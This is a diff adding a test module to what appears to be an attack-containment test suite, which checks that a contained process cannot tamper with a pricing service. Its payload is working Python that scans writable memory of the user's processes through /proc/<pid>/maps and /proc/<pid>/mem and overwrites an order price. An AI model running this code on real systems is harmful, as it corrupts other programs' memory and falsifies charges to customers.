@@ -1,0 +1,46 @@
+"""Writes the memory of every process of the user, through /proc: the copy that later customers are served from is one of them."""
+
+from __future__ import annotations
+
+from tests.attacks.evidence import WrongAnswers
+from tests.attacks.payloads import FAMILY
+from tests.attacks.technique import Technique
+
+PLANT = (
+    FAMILY
+    + """
+good, bad = b"price of an order: 00" + b"42", b"price of an order: 0001"
+for pid in [*others(), mine]:
+    try:
+        with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "r+b", buffering=0) as memory:
+            for line in maps:
+                place, modes = line.split()[:2]
+                start, end = (int(part, 16) for part in place.split("-"))
+                if modes[:2] != "rw" or end - start > 1 << 28:
+                    continue
+                try:
+                    memory.seek(start)
+                    data = memory.read(end - start)
+                except (OSError, ValueError):
+                    continue
+                at = data.find(good)
+                while at >= 0:
+                    memory.seek(start + at)
+                    memory.write(bad)
+                    at = data.find(good, at + 1)
+    except OSError:
+        continue
+"""
+)
+
+TECHNIQUE = Technique(
+    level="L2",
+    attack=("T1055.009", "T1565.003"),
+    source="1.5",
+    must_fail_to="change what a later customer pays",
+    plant=PLANT,
+    evidence=WrongAnswers(),
+    handler="priced.handler",
+    spoils=True,
+    process="contained",
+)
